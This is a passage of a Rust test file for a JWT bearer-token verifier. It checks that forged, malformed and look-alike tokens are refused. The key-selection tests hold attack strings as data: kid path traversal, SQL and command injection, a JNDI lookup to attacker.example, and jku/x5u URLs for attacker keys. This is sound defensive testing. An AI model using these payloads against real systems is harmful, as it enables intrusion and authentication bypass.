            &signed_with(&[("x", Some(&deep_array(64)))]),
            malformed(Malformed::NestingTooDeep),
        ),
        bearer(
            "a claim nested 64 objects deep (65 levels)",
            &signed_with(&[("x", Some(&deep_object(64)))]),
            malformed(Malformed::NestingTooDeep),
        ),
        bearer(
            "aud nested 200 arrays deep",
            &signed_with(&[(
                "aud",
                Some(&format!(
                    "{}{}{}",
                    "[".repeat(200),
                    js(AUD),
                    "]".repeat(200)
                )),
            )]),
            malformed(Malformed::NestingTooDeep),
        ),
        bearer(
            "header nested 200 arrays deep",
            &with_header(&format!(r#"{{"alg":"RS256","x":{}}}"#, deep_array(200))),
            malformed(Malformed::NestingTooDeep),
        ),
        // Huge tokens.
        bearer(
            "junk of exactly the cap",
            &"a".repeat(MAX_LEN),
            malformed(Malformed::Segments),
        ),
        bearer(
            "junk one byte over the cap",
            &"a".repeat(MAX_LEN + 1),
            Refuse(AuthError::TokenTooLong { limit: MAX_LEN }),
        ),
        bearer(
            "valid token of exactly the cap",
            &valid_of_length(MAX_LEN),
            Accept,
        ),
        bearer(
            "valid token one byte over the cap",
            &valid_of_length(MAX_LEN + 1),
            Refuse(AuthError::TokenTooLong { limit: MAX_LEN }),
        ),
        bearer(
            "valid token with a 100 KiB claim",
            &signed_with(&[("x", Some(&js(&"x".repeat(100 * 1024))))]),
            Refuse(AuthError::TokenTooLong { limit: MAX_LEN }),
        ),
        bearer(
            "a million dots",
            &".".repeat(1_000_000),
            Refuse(AuthError::TokenTooLong { limit: MAX_LEN }),
        ),
    ];
    run("shape", &world.auth, cases).await;
}

// ---------------------------------------------------------------------------
// The algorithm
// ---------------------------------------------------------------------------

#[tokio::test]
async fn algorithm_cases() {
    let world = World::new();
    let k = keys();
    let not_allowed = || Refuse(AuthError::AlgorithmNotAllowed);
    let claims = claims_with(&[]);
    let none_signed = compact(&b64(r#"{"alg":"none","typ":"JWT"}"#), &b64(&claims));
    let stored_deflate = |data: &[u8]| -> Vec<u8> {
        let len = u16::try_from(data.len()).expect("short");
        let mut out = vec![0x01];
        out.extend_from_slice(&len.to_le_bytes());
        out.extend_from_slice(&(!len).to_le_bytes());
        out.extend_from_slice(data);
        out
    };
    // RFC 7797: with b64 false the signing input is the header segment, a dot and
    // the payload bytes themselves.
    let unencoded_sig = |header: &str| {
        let input = [format!("{}.", b64(header)).as_bytes(), claims.as_bytes()].concat();
        let sig = k.user.sign_input(Algorithm::RS256, &input);
        format!("{}.{}.{}", b64(header), b64(&claims), b64(sig))
    };
    let b64_false = r#"{"alg":"RS256","b64":false}"#;
    let b64_false_crit = r#"{"alg":"RS256","b64":false,"crit":["b64"]}"#;

    let cases = vec![
        // none, in any case.
        bearer(
            "alg none, empty signature",
            &unsigned(r#"{"alg":"none","typ":"JWT"}"#),
            not_allowed(),
        ),
        bearer(
            "alg None",
            &unsigned(r#"{"alg":"None","typ":"JWT"}"#),
            not_allowed(),
        ),
        bearer("alg NONE", &unsigned(r#"{"alg":"NONE"}"#), not_allowed()),
        bearer("alg nOnE", &unsigned(r#"{"alg":"nOnE"}"#), not_allowed()),
        bearer(
            "alg none with a valid RSA signature",
            &none_signed,
            not_allowed(),
        ),
        bearer(
            "alg none, no signature segment",
            unsigned(r#"{"alg":"none"}"#).trim_end_matches('.'),
            malformed(Malformed::Segments),
        ),
        // HMAC with the public key as the secret.
        bearer(
            "HS256, secret = public key PEM",
            &hmac_token(hmac::HMAC_SHA256, "HS256", k.user.public_pem().as_bytes()),
            not_allowed(),
        ),
        bearer(
            "HS256, secret = public key DER",
            &hmac_token(hmac::HMAC_SHA256, "HS256", &k.user.public_der()),
            not_allowed(),
        ),
        bearer(
            "HS256, secret = KeyData",
            &hmac_token(hmac::HMAC_SHA256, "HS256", k.user.key_data().as_bytes()),
            not_allowed(),
        ),
        bearer(
            "HS384, secret = public key PEM",
            &hmac_token(hmac::HMAC_SHA384, "HS384", k.user.public_pem().as_bytes()),
            not_allowed(),
        ),
        bearer(
            "HS512, secret = public key PEM",
            &hmac_token(hmac::HMAC_SHA512, "HS512", k.user.public_pem().as_bytes()),
            not_allowed(),
        ),
        bearer(
            "hs256 lower case, secret = public key PEM",
            &hmac_token(hmac::HMAC_SHA256, "hs256", k.user.public_pem().as_bytes()),
            not_allowed(),
        ),
        // Outside the allowed list (RS256, PS256 by default).
        bearer(
            "RS384, validly signed",
            &tb(&k.user).algorithm(Algorithm::RS384).build(),
            not_allowed(),
        ),
        bearer(
            "RS512, validly signed",
            &tb(&k.user).algorithm(Algorithm::RS512).build(),
            not_allowed(),
        ),
        bearer(
            "PS384, validly signed",
            &tb(&k.user).algorithm(Algorithm::PS384).build(),
            not_allowed(),
        ),
        bearer(
            "PS512, validly signed",
            &tb(&k.user).algorithm(Algorithm::PS512).build(),
            not_allowed(),
        ),
        bearer(
            "ES256",
            &format!(
                "{}.{}.{}",
                b64(r#"{"alg":"ES256"}"#),
                b64(&claims),
                b64([7u8; 64])
            ),
            not_allowed(),
        ),
        bearer(
            "EdDSA",
            &format!(
                "{}.{}.{}",
                b64(r#"{"alg":"EdDSA"}"#),
                b64(&claims),
                b64([7u8; 64])
            ),
            not_allowed(),
        ),
        bearer(
            "RSA-OAEP (a JWE alg)",
            &with_header(r#"{"alg":"RSA-OAEP"}"#),
            not_allowed(),
        ),
        bearer(
            "rs256 lower case, validly signed",
            &with_header(r#"{"alg":"rs256"}"#),
            not_allowed(),
        ),
        bearer(
            "RS256 with a trailing space",
            &with_header(r#"{"alg":"RS256 "}"#),
            not_allowed(),
        ),
        bearer(
            "RS256 with a NUL",
            &with_header(r#"{"alg":"RS256\u0000"}"#),
            not_allowed(),
        ),
        bearer(
            "RS256 with a zero-width space",
            &with_header("{\"alg\":\"RS256\u{200b}\"}"),
            not_allowed(),
        ),
        bearer("empty alg", &with_header(r#"{"alg":""}"#), not_allowed()),
        // The header's alg does not match the signature scheme.
        bearer(
            "header RS256, signed PS256",
            &k.user.sign_raw(Algorithm::PS256, HEADER, &claims),
            invalid_sig(),
        ),
        bearer(
            "header PS256, signed RS256",
            &k.user
                .sign_raw(Algorithm::RS256, r#"{"alg":"PS256","typ":"JWT"}"#, &claims),
            invalid_sig(),
        ),
        bearer(
            "header RS256, signed RS512",
            &k.user.sign_raw(Algorithm::RS512, HEADER, &claims),
            invalid_sig(),
        ),
        bearer(
            "header PS256, signed PS512",
            &k.user
                .sign_raw(Algorithm::PS512, r#"{"alg":"PS256"}"#, &claims),
            invalid_sig(),
        ),
        // crit.
        bearer(
            "crit [exp]",
            &with_header(r#"{"alg":"RS256","crit":["exp"],"exp":1}"#),
            Refuse(AuthError::CriticalHeader),
        ),
        bearer(
            "crit []",
            &with_header(r#"{"alg":"RS256","crit":[]}"#),
            Refuse(AuthError::CriticalHeader),
        ),
        bearer(
            "crit null",
            &with_header(r#"{"alg":"RS256","crit":null}"#),
            Refuse(AuthError::CriticalHeader),
        ),
        bearer(
            "crit a string",
            &with_header(r#"{"alg":"RS256","crit":"b64"}"#),
            Refuse(AuthError::CriticalHeader),
        ),
        bearer(
            "crit with alg none",
            &unsigned(r#"{"alg":"none","crit":["x"]}"#),
            Refuse(AuthError::CriticalHeader),
        ),
        // zip (a JWE parameter; RFC 7515 has no compression).
        bearer(
            "zip DEF over a plain JSON payload, validly signed (ignored)",
            &with_header(r#"{"alg":"RS256","zip":"DEF"}"#),
            Accept,
        ),
        bearer(
            "zip DEF over a DEFLATE payload, validly signed",
            &signed_bytes(
                br#"{"alg":"RS256","zip":"DEF"}"#,
                &stored_deflate(claims.as_bytes()),
            ),
            malformed(Malformed::PayloadJson),
        ),
        bearer(
            "zip DEF signed by the attacker",
            &k.attacker
                .sign_raw(Algorithm::RS256, r#"{"alg":"RS256","zip":"DEF"}"#, &claims),
            invalid_sig(),
        ),
        // b64 (RFC 7797): refused in any form. go-jose honours `"b64": false` even
        // without crit, so ZITADEL verifies the raw payload: the compact input's
        // signature fails there, and a raw payload's would mean another token here.
        bearer(
            "b64 false without crit, signed over the compact input",
            &with_header(b64_false),
            REFUSED_HEADER,
        ),
        bearer(
            "b64 false without crit, signed over the unencoded payload",
            &unencoded_sig(b64_false),
            REFUSED_HEADER,
        ),
        bearer(
            "b64 true without crit",
            &with_header(r#"{"alg":"RS256","b64":true}"#),
            REFUSED_HEADER,
        ),
        bearer(
            "b64 false with crit, signed over the unencoded payload",
            &unencoded_sig(b64_false_crit),
            REFUSED_HEADER,
        ),
        bearer(
            "b64 false with crit, signed over the compact input",
            &with_header(b64_false_crit),
            REFUSED_HEADER,
        ),
        bearer(
            "b64 false with crit, unencoded payload in the token",
            &{
                let input = [
                    format!("{}.", b64(b64_false_crit)).as_bytes(),
                    claims.as_bytes(),
                ]
                .concat();
                let sig = k.user.sign_input(Algorithm::RS256, &input);
                format!("{}.{claims}.{}", b64(b64_false_crit), b64(sig))
            },
            malformed(Malformed::Segments),
        ),
        bearer(
            "b64 false without crit, detached payload",
            &{
                let t = unencoded_sig(b64_false);
                let (h, _, s) = parts(&t);
                format!("{h}..{s}")
            },
            REFUSED_HEADER,
        ),
        // typ.
        bearer(
            "typ JOSE",
            &with_header(r#"{"alg":"RS256","typ":"JOSE"}"#),
            Refuse(AuthError::UnsupportedType),
        ),
        bearer(
            "typ at+jwt",
            &with_header(r#"{"alg":"RS256","typ":"at+jwt"}"#),
            Refuse(AuthError::UnsupportedType),
        ),
        bearer(
            "typ a number",
            &with_header(r#"{"alg":"RS256","typ":1}"#),
            Refuse(AuthError::UnsupportedType),
        ),
        bearer(
            "typ null",
            &with_header(r#"{"alg":"RS256","typ":null}"#),
            Refuse(AuthError::UnsupportedType),
        ),
        bearer(
            "typ jwt (any case is JWT)",
            &with_header(r#"{"alg":"RS256","typ":"jwt"}"#),
            Accept,
        ),
        bearer("no typ", &with_header(r#"{"alg":"RS256"}"#), Accept),
    ];
    run("algorithm", &world.auth, cases).await;
}

// ---------------------------------------------------------------------------
// Keys the token tries to choose
// ---------------------------------------------------------------------------

#[tokio::test]
async fn key_selection_cases() {
    let world = World::new();
    let k = keys();
    let attacker_pub = k
        .attacker
        .write(world.dir(), "attacker")
        .expect("write attacker key");
    let (n, e) = modulus_and_exponent(&k.attacker);
    let jwk = json!({ "kty": "RSA", "n": b64(&n), "e": b64(&e), "kid": USER });
    let (n2, e2) = modulus_and_exponent(&k.user2);
    let jwk2 = json!({ "kty": "RSA", "n": b64(&n2), "e": b64(&e2) });
    let cert = STANDARD.encode(certificate_der(&k.attacker, world.dir()));
    let attacker = || tb(&k.attacker);

    let cases = vec![
        bearer(
            "kid path traversal",
            &attacker()
                .header("kid", "../../../../../../etc/passwd")
                .build(),
            invalid_sig(),
        ),
        bearer(
            "kid absolute path to the attacker's key",
            &attacker()
                .header("kid", attacker_pub.display().to_string())
                .build(),
            invalid_sig(),
        ),
        bearer(
            "kid /dev/null",
            &attacker().header("kid", "/dev/null").build(),
            invalid_sig(),
        ),
        bearer(
            "kid SQL injection",
            &attacker()
                .header("kid", "x' UNION SELECT 'secret' --")
                .build(),
            invalid_sig(),
        ),
        bearer(
            "kid command injection",
            &attacker()
                .header("kid", "$(touch /tmp/pwned)|id;`id`")
                .build(),
            invalid_sig(),
        ),
        bearer(
            "kid JNDI string",
            &attacker()
                .header("kid", "${jndi:ldap://attacker.example/a}")
                .build(),
            invalid_sig(),
        ),
        bearer(
            "kid with NUL",
            &attacker().header("kid", "system-user-1\u{0}").build(),
            invalid_sig(),
        ),
        bearer(
            "kid a URL",
            &attacker()
                .header("kid", "https://attacker.example/key.pub")
                .build(),
            invalid_sig(),
        ),
        bearer(
            "kid an object",
            &attacker().header("kid", json!({ "$ne": null })).build(),
            REFUSED_HEADER,
        ),
        bearer(
            "kid a number, signed by the user",
            &tb(&k.user).header("kid", 7).build(),
            REFUSED_HEADER,
        ),
        bearer(
            "nonce a number, signed by the user",
            &tb(&k.user).header("nonce", 7).build(),
            REFUSED_HEADER,
        ),
        bearer(
            "cty an array, signed by the user",
            &tb(&k.user).header("cty", json!(["JWT"])).build(),
            REFUSED_HEADER,
        ),
        bearer(
            "kid, cty and nonce strings, signed by the user",
            &tb(&k.user)
                .header("kid", "1")
                .header("cty", "text/plain")
                .header("nonce", "n")
                .build(),
            Accept,
        ),
        bearer(
            "x5t of the attacker's certificate, signed by the user",
            &tb(&k.user).header("x5t", "AAAA").build(),
            REFUSED_HEADER,
        ),
        bearer(
            "kid naming the user",
            &attacker().header("kid", USER).build(),
            invalid_sig(),
        ),
        bearer(
            "kid naming user 2, signed by user 2's key, iss user 1",
            &tb(&k.user2).header("kid", USER2).build(),
            invalid_sig(),
        ),
        bearer(
            "jku to the attacker's JWKS",
            &attacker()
                .header("jku", "https://attacker.example/.well-known/jwks.json")
                .build(),
            REFUSED_HEADER,
        ),
        bearer(
            "x5u to the attacker's certificate",
            &attacker()
                .header("x5u", "https://attacker.example/cert.pem")
                .build(),
            REFUSED_HEADER,
        ),
        bearer(
            "embedded jwk of the attacker's key",
            &attacker().header("jwk", jwk.clone()).build(),
            REFUSED_HEADER,
        ),
        bearer(
            "embedded jwk of user 2, signed by user 2",
            &tb(&k.user2).header("jwk", jwk2).build(),
            REFUSED_HEADER,
        ),
        bearer(
            "embedded x5c of the attacker's certificate",
            &attacker().header("x5c", json!([cert.clone()])).build(),
            REFUSED_HEADER,
        ),
        bearer(
            "x5t#S256 of the attacker's certificate",
            &attacker()
                .header(
                    "x5t#S256",
                    b64(aws_lc_rs::digest::digest(
                        &aws_lc_rs::digest::SHA256,
                        &STANDARD.decode(&cert).unwrap(),
                    )
                    .as_ref()),
                )
                .build(),
            REFUSED_HEADER,
        ),
        bearer(
            "everything at once",
            &attacker()
                .header("kid", attacker_pub.display().to_string())
                .header("jku", "https://attacker.example/jwks.json")
                .header("x5u", "https://attacker.example/cert.pem")
                .header("jwk", jwk.clone())
                .header("x5c", json!([cert.clone()]))
                .build(),
            REFUSED_HEADER,
        ),
        bearer(
            "everything at once, PS256",
            &attacker()
                .algorithm(Algorithm::PS256)
                .header("jwk", jwk.clone())
                .header("x5c", json!([cert.clone()]))
                .build(),
            REFUSED_HEADER,
        ),
        // The same headers on a token the user really signed are refused too: a
        // header that carries a key is refused whoever signed it.
        bearer(
            "the user's token carrying the attacker's kid, jku, jwk, x5c",
            &tb(&k.user)
                .header("kid", "../../etc/passwd")
                .header("jku", "https://attacker.example/jwks.json")
                .header("jwk", jwk)
                .header("x5c", json!([cert]))
                .build(),
            REFUSED_HEADER,
        ),
    ];
    run("keys", &world.auth, cases).await;
}

// ---------------------------------------------------------------------------
// Signatures
// ---------------------------------------------------------------------------

#[tokio::test]
async fn signature_cases() {
    let world = World::new();
    let k = keys();
    let token = valid();
    let (h, p, s) = parts(&token);
    let sig = URL_SAFE_NO_PAD.decode(s).unwrap();
    let with_sig = |bytes: &[u8]| format!("{h}.{p}.{}", b64(bytes));
    let mut flipped = sig.clone();
    flipped[100] ^= 0x01;
    let mut last_flipped = sig.clone();
    *last_flipped.last_mut().unwrap() ^= 0x80;
    let other = tb(&k.user).claim("jti", "another").build();
    let longer = tb(&k.user).claim("exp", EXP + 86_400 * 365).build();
    let (_, longer_payload, _) = parts(&longer);
    let as_user2 = k
        .user2
        .token(USER2, AUD)
        .claim("iat", T)
        .claim("exp", EXP)
        .build();
    let (_, user2_payload, _) = parts(&as_user2);

    let cases = vec![
        bearer("empty signature", &format!("{h}.{p}."), invalid_sig()),
        bearer("one-byte signature", &with_sig(&[0]), invalid_sig()),
        bearer(
            "truncated by one byte",
            &with_sig(&sig[..255]),
            invalid_sig(),
        ),
        bearer("truncated to half", &with_sig(&sig[..128]), invalid_sig()),
        bearer(
            "truncated by one character",
            &format!("{h}.{p}.{}", &s[..s.len() - 1]),
            malformed(Malformed::SignatureBase64),
        ),
        bearer(
            "one byte too long",
            &with_sig(&[sig.as_slice(), &[0]].concat()),
            invalid_sig(),
        ),
        bearer(
            "a leading zero byte",
            &with_sig(&[[0u8].as_slice(), &sig].concat()),
            invalid_sig(),
        ),
        bearer(
            "twice as long",
            &with_sig(&[sig.as_slice(), &sig].concat()),
            invalid_sig(),
        ),
        bearer("4096-bit-sized", &with_sig(&[7u8; 512]), invalid_sig()),
        bearer("all zeros", &with_sig(&[0u8; 256]), invalid_sig()),
        bearer("all ones", &with_sig(&[0xffu8; 256]), invalid_sig()),
        bearer("one bit flipped", &with_sig(&flipped), invalid_sig()),
        bearer("last bit flipped", &with_sig(&last_flipped), invalid_sig()),
        bearer(
            "signed by the attacker's key",
            &tb(&k.attacker).build(),
            invalid_sig(),
        ),
        bearer(
            "signed by user 2's key",
            &tb(&k.user2).build(),
            invalid_sig(),
        ),
        bearer(
            "signed by user 2's key, PS256",
            &tb(&k.user2).algorithm(Algorithm::PS256).build(),
            invalid_sig(),
        ),
        bearer(
            "another valid token's signature",
            &format!("{h}.{p}.{}", parts(&other).2),
            invalid_sig(),
        ),
        bearer(
            "payload changed after signing (exp a year later)",
            &format!("{h}.{longer_payload}.{s}"),
            invalid_sig(),
        ),
        bearer(
            "payload changed after signing (user 2)",
            &format!("{h}.{user2_payload}.{s}"),
            invalid_sig(),
        ),
        bearer(
            "payload changed after signing (claim added)",
            &format!("{h}.{}.{s}", b64(claims_with(&[("admin", Some("true"))]))),
            invalid_sig(),
        ),
        bearer(
            "header changed after signing (typ dropped)",
            &format!("{}.{p}.{s}", b64(r#"{"alg":"RS256"}"#)),
            invalid_sig(),
        ),
        bearer(
            "header changed after signing (RS256 to PS256)",
            &format!("{}.{p}.{s}", b64(r#"{"alg":"PS256","typ":"JWT"}"#)),
            invalid_sig(),
        ),
        bearer(
            "signature over the payload alone",
            &with_sig(&k.user.sign_input(Algorithm::RS256, p.as_bytes())),
            invalid_sig(),
        ),
        bearer(
            "signature over the decoded JSON",
            &with_sig(&k.user.sign_input(
                Algorithm::RS256,
                format!("{HEADER}.{}", claims_with(&[])).as_bytes(),
            )),
            invalid_sig(),
        ),
    ];
    run("signature", &world.auth, cases).await;
}

// ---------------------------------------------------------------------------
// Identity
// ---------------------------------------------------------------------------

#[tokio::test]
async fn identity_cases() {
    let world = World::new();
    let k = keys();
    let unknown = || Refuse(AuthError::UnknownUser);
    // A token for `id` as both iss and sub, signed by the user's key.
    let as_id = |id: &str| signed_with(&[("iss", Some(&js(id))), ("sub", Some(&js(id)))]);
    let cases = vec![
        bearer(
            "iss user 1, sub user 2",
            &signed_with(&[("sub", Some(&js(USER2)))]),
            Refuse(AuthError::IssuerSubjectMismatch),
        ),
        bearer(
            "iss user 2, sub user 1, signed by user 2",
            &k.user2.sign_raw(
                Algorithm::RS256,
                HEADER,
                &claims_with(&[("iss", Some(&js(USER2)))]),
            ),
            Refuse(AuthError::IssuerSubjectMismatch),
        ),
        bearer(
            "iss user 1, sub empty",
            &signed_with(&[("sub", Some("\"\""))]),
            Refuse(AuthError::IssuerSubjectMismatch),
        ),
        bearer(
            "sub with a trailing space",
            &signed_with(&[("sub", Some(&js("system-user-1 ")))]),
            Refuse(AuthError::IssuerSubjectMismatch),
        ),
        bearer(
            "iss missing",
            &signed_with(&[("iss", None)]),
            Refuse(AuthError::MissingClaim(Claim::Iss)),
        ),
        bearer(
            "sub missing",
            &signed_with(&[("sub", None)]),
            Refuse(AuthError::MissingClaim(Claim::Sub)),
        ),
        bearer(
            "iss and sub missing",
            &signed_with(&[("iss", None), ("sub", None)]),
            Refuse(AuthError::MissingClaim(Claim::Iss)),
        ),
        bearer(
            "ISS and SUB in upper case only",
            &signed_with(&[
                ("iss", None),
                ("sub", None),
                ("ISS", Some(&js(USER))),
                ("SUB", Some(&js(USER))),
            ]),
            AMBIGUOUS,
        ),
        // Go's decoder reads a member named like a registered claim in another case
        // as that claim (the last one wins), so each of these means something else to
        // ZITADEL than it would here: all are refused.
        bearer(
            "an upper-case ISS naming user 2 beside iss",
            &signed_with(&[("ISS", Some(&js(USER2)))]),
            AMBIGUOUS,
        ),
        bearer(
            "AUD naming another service beside aud",
            &signed_with(&[("AUD", Some(&js("https://other.example")))]),
            AMBIGUOUS,
        ),
        bearer(
            "EXP in the past beside exp",
            &signed_with(&[("EXP", Some(&(T - 10).to_string()))]),
            AMBIGUOUS,
        ),
        bearer(
            "IAT too old beside iat",
            &signed_with(&[("IAT", Some(&(T - 7200).to_string()))]),
            AMBIGUOUS,
        ),
        bearer(
            "SUB a number beside sub",
            &signed_with(&[("SUB", Some("7"))]),
            AMBIGUOUS,
        ),
        bearer(
            "Nbf in the future beside nothing",
            &signed_with(&[("Nbf", Some(&(T + 600).to_string()))]),
            AMBIGUOUS,
        ),
        bearer(
            "sub with a long s (U+017F) beside sub",
            &signed_with(&[("\u{017F}ub", Some(&js(USER2)))]),
            AMBIGUOUS,
        ),
        bearer(
            "iss with a dotless i (U+0131) beside iss",
            &signed_with(&[("\u{0131}ss", Some(&js(USER2)))]),
            AMBIGUOUS,
        ),
        bearer(
            "a claim that is no registered claim in any case (Issuer)",
            &signed_with(&[("Issuer", Some(&js(USER2)))]),
            Accept,
        ),
        // Unknown and look-alike users.
        bearer("unknown user", &as_id("system-user-3"), unknown()),
        bearer(
            "unknown user signed by the attacker",
            &tb(&k.attacker)
                .claim("iss", "attacker")
                .claim("sub", "attacker")
                .build(),
            unknown(),
        ),
        bearer("empty user id", &as_id(""), unknown()),
        bearer("l for 1", &as_id("system-user-l"), unknown()),
        bearer("capitalised", &as_id("System-User-1"), unknown()),
        bearer("upper case", &as_id("SYSTEM-USER-1"), unknown()),
        bearer("underscores", &as_id("system_user_1"), unknown()),
        bearer("Cyrillic s", &as_id("\u{0455}ystem-user-1"), unknown()),
        bearer("fullwidth digit", &as_id("system-user-\u{ff11}"), unknown()),
        bearer(
            "non-breaking hyphen",
            &as_id("system\u{2011}user-1"),
            unknown(),
        ),
        bearer(
            "zero-width space",
            &as_id("system-user-1\u{200b}"),
            unknown(),
        ),
        bearer("leading space", &as_id(" system-user-1"), unknown()),
        bearer("trailing space", &as_id("system-user-1 "), unknown()),
        bearer("trailing newline", &as_id("system-user-1\n"), unknown()),
        bearer("leading tab", &as_id("\tsystem-user-1"), unknown()),
        bearer("trailing NUL", &as_id("system-user-1\u{0}"), unknown()),
        bearer("leading NUL", &as_id("\u{0}system-user-1"), unknown()),
        bearer("NUL in the middle", &as_id("system-user\u{0}-1"), unknown()),
        bearer("prefix of the id", &as_id("system-user-"), unknown()),
        bearer("id with a suffix", &as_id("system-user-10"), unknown()),
        bearer(
            "combining accent",
            &as_id("system-user-1\u{301}"),
            unknown(),
        ),
        bearer(
            "a JSON escape spelling the same id",
            &signed(&claims_with(&[]).replace("\"system-user-1\"", "\"system\\u002duser-1\"")),
            Accept,
        ),
        // Mistyped iss and sub.
        bearer(
            "iss a number",
            &signed_with(&[("iss", Some("7")), ("sub", Some("7"))]),
            Refuse(AuthError::InvalidClaim(Claim::Iss)),
        ),
        bearer(
            "iss an array",
            &signed_with(&[("iss", Some(&format!("[{}]", js(USER))))]),
            Refuse(AuthError::InvalidClaim(Claim::Iss)),
        ),
        bearer(
            "iss null",
            &signed_with(&[("iss", Some("null"))]),
            Refuse(AuthError::InvalidClaim(Claim::Iss)),
        ),
        bearer(
            "iss an object",
            &signed_with(&[("iss", Some(&format!("{{\"id\":{}}}", js(USER))))]),
            Refuse(AuthError::InvalidClaim(Claim::Iss)),
        ),
        bearer(
            "iss true",
            &signed_with(&[("iss", Some("true"))]),
            Refuse(AuthError::InvalidClaim(Claim::Iss)),
        ),
        bearer(
            "sub a number",
            &signed_with(&[("sub", Some("5"))]),
            Refuse(AuthError::InvalidClaim(Claim::Sub)),
        ),
        bearer(
            "sub an array",
            &signed_with(&[("sub", Some(&format!("[{}]", js(USER))))]),
            Refuse(AuthError::InvalidClaim(Claim::Sub)),
        ),
        bearer(
            "iss and sub arrays",
            &signed_with(&[
                ("iss", Some(&format!("[{}]", js(USER)))),
                ("sub", Some(&format!("[{}]", js(USER)))),
            ]),
            Refuse(AuthError::InvalidClaim(Claim::Iss)),
        ),
    ];
    run("identity", &world.auth, cases).await;
}

#[tokio::test]
async fn removed_user_is_refused_after_reload() {
    let world = World::new();
    let k = keys();
    let token2 = k
        .user2
        .token(USER2, AUD)
        .claim("iat", T)
        .claim("exp", EXP)
        .build();
    run(
        "identity (before removal)",
        &world.auth,
        vec![bearer(
            "user 2 while configured",
            &token2,
            Expect::AcceptAs(USER2),
        )],
    )
    .await;

    // User 2 leaves the configuration; its token (already in the cache) must go too.
    write_config(
        world.dir(),
        "custom-domain.com",
        &[(USER, &k.user)],
        KeyForm::Path,
    )
    .expect("rewrite config");
    let report = world.auth.reload().expect("reload");
    assert!(report.changed);
    assert_eq!(world.auth.user_ids(), [USER]);
    run(
        "identity (after removal)",
        &world.auth,
        vec![
            bearer("removed user", &token2, Refuse(AuthError::UnknownUser)),
            bearer("remaining user", &valid(), Accept),
        ],
    )
    .await;
}

// ---------------------------------------------------------------------------
// Audience
// ---------------------------------------------------------------------------

#[tokio::test]
async fn audience_cases() {
    let world = World::new();
    let with_aud = |aud: &str| signed_with(&[("aud", Some(&js(aud)))]);
    let with_raw_aud = |raw: &str| signed_with(&[("aud", Some(raw))]);
    let invalid = || Refuse(AuthError::InvalidClaim(Claim::Aud));
    use AudienceHint::{Case as CaseHint, Other, Port, Scheme, TrailingSlash};

    let other_service = "https://other-service.example";
    let replayed = with_aud(other_service);
    let forged = |name: &str, headers: &[(&str, &str)]| {
        let mut builder =
            Request::get("/").header(header::AUTHORIZATION, format!("Bearer {replayed}"));
        for (name, value) in headers {
            builder = builder.header(*name, *value);
        }
        request(name, builder.body(Body::empty()).unwrap(), audience(Other))
    };

    let cases = vec![
        bearer(
            "aud missing",
            &signed_with(&[("aud", None)]),
            Refuse(AuthError::MissingClaim(Claim::Aud)),
        ),
        bearer("aud empty string", &with_aud(""), audience(Other)),
        bearer("aud empty array", &with_raw_aud("[]"), audience(Other)),
        bearer("aud a number", &with_raw_aud("42"), invalid()),
        bearer("aud null", &with_raw_aud("null"), invalid()),
        bearer("aud true", &with_raw_aud("true"), invalid()),
        bearer(
            "aud an object",
            &with_raw_aud(&format!("{{\"url\":{}}}", js(AUD))),
            invalid(),
        ),
        bearer(
            "aud [expected, 1]",
            &with_raw_aud(&format!("[{},1]", js(AUD))),
            invalid(),
        ),
        bearer(
            "aud [1, expected]",
            &with_raw_aud(&format!("[1,{}]", js(AUD))),
            invalid(),
        ),
        bearer(
            "aud [expected, null]",
            &with_raw_aud(&format!("[{},null]", js(AUD))),
            invalid(),
        ),
        bearer(
            "aud [[expected]]",
            &with_raw_aud(&format!("[[{}]]", js(AUD))),
            invalid(),
        ),
        bearer(
            "aud [expected, {}]",
            &with_raw_aud(&format!("[{},{{}}]", js(AUD))),
            invalid(),
        ),
        bearer(
            "aud [other, expected]",
            &with_raw_aud(&format!("[\"https://a.example\",{}]", js(AUD))),
            Accept,
        ),
        bearer(
            "aud [expected, expected]",
            &with_raw_aud(&format!("[{0},{0}]", js(AUD))),
            Accept,
        ),
        bearer(
            "aud [near misses]",
            &with_raw_aud(&format!(
                "[{},\"http://custom-domain.com\"]",
                js(&format!("{AUD}/"))
            )),
            audience(TrailingSlash),
        ),
        // Near misses.
        bearer(
            "trailing slash",
            &with_aud(&format!("{AUD}/")),
            audience(TrailingSlash),
        ),
        bearer(
            "two trailing slashes",
            &with_aud(&format!("{AUD}//")),
            audience(TrailingSlash),
        ),
        bearer(
            "a path",
            &with_aud(&format!("{AUD}/system/v1")),
            audience(Other),
        ),
        bearer("path /.", &with_aud(&format!("{AUD}/.")), audience(Other)),
        bearer(
            "http instead of https",
            &with_aud("http://custom-domain.com"),
            audience(Scheme),
        ),
        bearer(
            "wss scheme",
            &with_aud("wss://custom-domain.com"),
            audience(Scheme),
        ),
        bearer(
            "no scheme",
            &with_aud("custom-domain.com"),
            audience(Scheme),
        ),
        bearer(
            "http with port 80",
            &with_aud("http://custom-domain.com:80"),
            audience(Scheme),
        ),
        bearer(
            "explicit default port 443",
            &with_aud("https://custom-domain.com:443"),
            audience(Port),
        ),
        bearer(
            "other port",
            &with_aud("https://custom-domain.com:8443"),
            audience(Port),
        ),
        bearer(
            "empty port",
            &with_aud("https://custom-domain.com:"),
            audience(Port),
        ),
        bearer(
            "port 443 and a slash",
            &with_aud("https://custom-domain.com:443/"),
            audience(Other),
        ),
        bearer(
            "capitalised host",
            &with_aud("https://Custom-Domain.com"),
            audience(CaseHint),
        ),
        bearer(
            "upper case",
            &with_aud("HTTPS://CUSTOM-DOMAIN.COM"),
            audience(CaseHint),
        ),
        bearer(
            "host suffix",
            &with_aud("https://custom-domain.com.evil.example"),
            audience(Other),
        ),
        bearer(
            "host prefix",
            &with_aud("https://evilcustom-domain.com"),
            audience(Other),
        ),
        bearer(
            "subdomain",
            &with_aud("https://api.custom-domain.com"),
            audience(Other),
        ),
        bearer(
            "truncated",
            &with_aud("https://custom-domain.co"),
            audience(Other),
        ),
        bearer(
            "one letter more",
            &with_aud("https://custom-domain.comm"),
            audience(Other),
        ),
        bearer(
            "userinfo trick",
            &with_aud("https://custom-domain.com@evil.example"),
            audience(Other),
        ),
        bearer(
            "expected URL in the path",
            &with_aud(&format!("https://evil.example/{AUD}")),
            audience(Other),
        ),
        bearer(
            "expected URL in the query",
            &with_aud(&format!("https://evil.example?aud={AUD}")),
            audience(Other),
        ),
        bearer("fragment", &with_aud(&format!("{AUD}#x")), audience(Other)),
        bearer(
            "empty query",
            &with_aud(&format!("{AUD}?")),
            audience(Other),
        ),
        bearer(
            "trailing dot on the host",
            &with_aud("https://custom-domain.com."),
            audience(Other),
        ),
        bearer(
            "trailing space",
            &with_aud(&format!("{AUD} ")),
            audience(Other),
        ),
        bearer(
            "trailing NUL",
